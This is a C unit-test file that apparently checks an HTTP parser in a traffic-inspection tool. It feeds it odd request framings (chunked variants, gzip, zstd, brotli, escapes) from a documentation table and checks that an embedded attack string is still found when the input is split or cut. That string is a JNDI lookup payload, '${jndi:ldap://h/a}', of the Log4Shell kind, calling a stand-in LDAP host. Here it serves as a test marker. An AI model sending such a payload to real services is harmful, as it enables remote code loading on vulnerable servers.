/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The odd requests of docs/HTTP.md: whatever way a message is framed, folded or coded, the attack reaches a
 * field in one piece. Each row of its tables is fed whole, in small steps and cut at every byte. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "base/count.h"
#include "support/http_record.h"
#include "support/pack.h"

#define PAGE     "docs/HTTP.md"
#define ATTACK   "${jndi:ldap://h/a}"
#define ROWS_MIN 120 /* a page that cannot be read would pass every test */
#define ROWS_MAX 400
#define LONG     4000 /* longer rows are not cut at every byte */

struct odd {
    char name[128], where[64];
    struct buf sent;
    bool as_is; /* no function in it: what is cut off is no more than that */
    bool doubt;
};

static struct odd odds[ROWS_MAX];
static size_t n_odds;

/* --- the language of the column "sent" --- */

static void add_bytes(struct bytes body, const char *start, const char *end, struct buf *out)
{
    for (size_t i = 0; i < body.len; i++) {
        buf_add_str(out, start);
        buf_add_byte(out, body.p[i]);
        buf_add_str(out, end);
    }
    buf_add_str(out, "0\r\n\r\n");
}

static void apply(struct bytes name, struct bytes inner, struct buf *out)
{
    static const struct {
        const char *name, *start, *end;
    } chunks[] = {
        {"bytes", "1\r\n", "\r\n"},
        {"bytes-ext", "1;a=\"b\"\r\n", "\r\n"},
        {"bytes-lf", "1\n", "\n"},
        {"bytes-blank", " 1 \r\n", "\r\n"},
        {"bytes-empty", "1\r\n", "\r\n\r\n\r\n"},
        {"bytes-zeros", "00000000000000000000001\r\n", "\r\n"},
    };
    static const char *const packed[PACK_N] = {"gzip", "zlib", "deflate", "zstd", "br"};

    for (size_t i = 0; i < sizeof chunks / sizeof *chunks; i++)
        if (bytes_eq(name, bytes_str(chunks[i].name))) {
            add_bytes(inner, chunks[i].start, chunks[i].end, out);
            return;
        }
    for (unsigned how = 0; how < PACK_N; how++)
        if (bytes_eq(name, bytes_str(packed[how]))) {
            pack((enum packing)how, inner, 6, out);
            return;
        }
    if (!bytes_eq(name, BYTES_LIT("gzip-comment")))
        fail_msg("%s has no such word: {%.*s:", PAGE, (int)name.len, (const char *)name.p);
    pack_with_comment(inner, ATTACK, out);
}

/* One letter behind a backslash; the offset behind it. */
static size_t escape(struct bytes text, size_t at, struct buf *out)
{
    static const char letters[] = "rntv\\", values[] = "\r\n\t\v\\";
    const char *letter = at < text.len ? strchr(letters, text.p[at]) : NULL;

    if (letter && *letter) {
        buf_add_byte(out, (uint8_t)values[letter - letters]);
        return at + 1;
    }
    assert_true(at + 2 < text.len && text.p[at] == 'x');
    buf_add_byte(out, (uint8_t)(hex_value(text.p[at + 1]) << 4 | hex_value(text.p[at + 2])));
    return at + 3;
}

/* Appends what text stands for, up to its end or a brace that closes; the offset of that. */
static size_t expand(struct bytes text, size_t at, struct buf *out)
{
    while (at < text.len && text.p[at] != '}') {
        if (bytes_starts(bytes_from(text, at), BYTES_LIT("ATTACK"))) {
            buf_add_str(out, ATTACK);
            at += 6;
        } else if (text.p[at] == '\\') {
            at = escape(text, at + 1, out);
        } else if (text.p[at] == '{') {
            struct bytes rest = bytes_from(text, at + 1);
            size_t colon = bytes_find_byte(rest, ':'), star = bytes_find_byte(rest, '*');
            size_t end = star < colon ? star : colon;
            struct buf inner = buf_within(1 << 20);
            uint64_t n;

            assert_true(end != BYTES_NONE);
            at = expand(text, at + 2 + end, &inner) + 1;
            if (end == star && bytes_to_u64(bytes_slice(rest, 0, end), 1000000, &n))
                while (n--)
                    buf_add(out, buf_bytes(&inner));
            else
                apply(bytes_slice(rest, 0, end), buf_bytes(&inner), out);
            buf_drop(&inner);
        } else {
            buf_add_byte(out, text.p[at++]);
        }
    }
    return at;
}

/* --- the page --- */

static void copy_cell(char *to, size_t room, struct bytes cell)
{
    snprintf(to, room, "%.*s", (int)cell.len, (const char *)cell.p);
}

/* | name | `sent` | libhtp | found in | doubt |, or without the third. */
static void take_row(struct bytes line)
{
    struct bytes cells[6] = {0}, sent;
    size_t n = 0, at;
    struct odd *odd = &odds[n_odds];

    line = bytes_slice(bytes_trim(line), 1, bytes_trim(line).len);
    while (n < 6 && (at = bytes_find_byte(line, '|')) != BYTES_NONE) {
        cells[n++] = bytes_trim(bytes_slice(line, 0, at));
        line = bytes_from(line, at + 1);
    }
    sent = cells[1];
    if ((n != 4 && n != 5) || sent.len < 2 || sent.p[0] != '`')
        return;
    assert_true(n_odds < ROWS_MAX);
    sent = bytes_slice(sent, 1, sent.len - 1);
    odd->sent = buf_within(1 << 20);
    assert_int_equal(expand(sent, 0, &odd->sent), sent.len);
    odd->as_is = bytes_find_byte(sent, '{') == BYTES_NONE;
    copy_cell(odd->name, sizeof odd->name, cells[0]);
    copy_cell(odd->where, sizeof odd->where, cells[n - 2]);
    odd->doubt = bytes_eq(cells[n - 1], BYTES_LIT("yes"));
    n_odds++;
}

static int read_page(void **state)
{
    FILE *page = fopen(PAGE, "r");
    static char line[4096];

    (void)state;
    if (!page)
        return -1;
    while (fgets(line, sizeof line, page))
        if (line[0] == '|')
            take_row(bytes_str(line));
    fclose(page);
    return n_odds >= ROWS_MIN ? 0 : -1;
}

static int drop_page(void **state)
{
    (void)state;
    while (n_odds)
        buf_drop(&odds[--n_odds].sent);
    return 0;
}

static enum field_kind kind_named(const char *name)
{
    for (unsigned kind = 0; kind < FIELD_N; kind++)
        if (strcmp(field_rows[kind].name, name) == 0)
            return (enum field_kind)kind;
    fail_msg("%s: no location is called %s", PAGE, name);
    return FIELD_N;
}

static struct http_record *run(struct bytes all, size_t step)
{
    struct http_record *r = http_record_new();

    http_record_steps(r, 0, all, step);
    http_record_end(r);
    return r;
}

static void test_every_way_delivers(void **state)
{
    static const size_t steps[] = {1, 2, 3, 5, 17, 100};
    const struct bytes attack = BYTES_LIT("jndi:ldap://h/a");

    (void)state;
    for (size_t i = 0; i < n_odds; i++) {
        struct buf all = odds[i].sent;
        struct http_record *whole;

        count_reset();
        whole = run(buf_bytes(&all), all.len);
        if (!http_record_has(whole, kind_named(odds[i].where), attack))
            fail_msg("%s: not in %s", odds[i].name, odds[i].where);
        if ((counters[COUNT_HTTP_AMBIGUOUS] > 0) != odds[i].doubt ||
            (whole->flow.end[0].odd != 0) != odds[i].doubt)
            fail_msg("%s: framing", odds[i].name);
        for (size_t j = 0; j < sizeof steps / sizeof *steps; j++) {
            struct http_record *stepped = run(buf_bytes(&all), steps[j]);

            http_record_same(whole, stepped);
            http_record_free(stepped);
        }
        http_record_free(whole);
    }
}

static void test_split_anywhere(void **state)
{
    (void)state;
    for (size_t i = 0; i < n_odds; i++) {
        struct buf all = odds[i].sent;
        struct http_record *whole = run(buf_bytes(&all), all.len);

        for (size_t at = 1; at < all.len && all.len < LONG; at++) {
            struct http_record *r = http_record_new();

            http_record_feed(r, 0, bytes_slice(buf_bytes(&all), 0, at), 0, false);
            http_record_feed(r, 0, bytes_from(buf_bytes(&all), at), 0, false);
            http_record_end(r);
            http_record_same(whole, r);
            http_record_free(r);
        }
        http_record_free(whole);
    }
}

static void test_cut_anywhere(void **state)
{
    const struct bytes attack = BYTES_LIT("jndi:ldap://h/a");

    (void)state;
    for (size_t i = 0; i < n_odds; i++) {
        struct buf all = odds[i].sent;

        for (size_t at = 0; at <= all.len && all.len < LONG; at++) {
            struct http_record *cut = run(bytes_slice(buf_bytes(&all), 0, at), 4096);

            if (odds[i].as_is && bytes_find(bytes_slice(buf_bytes(&all), 0, at), attack) != BYTES_NONE &&
                !http_record_delivers(cut, attack))
                fail_msg("%s: lost when cut at %zu", odds[i].name, at);
            http_record_free(cut);
        }
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_every_way_delivers),
        cmocka_unit_test(test_split_anywhere),
        cmocka_unit_test(test_cut_anywhere),
    };

    return cmocka_run_group_tests(tests, read_page, drop_page);
}
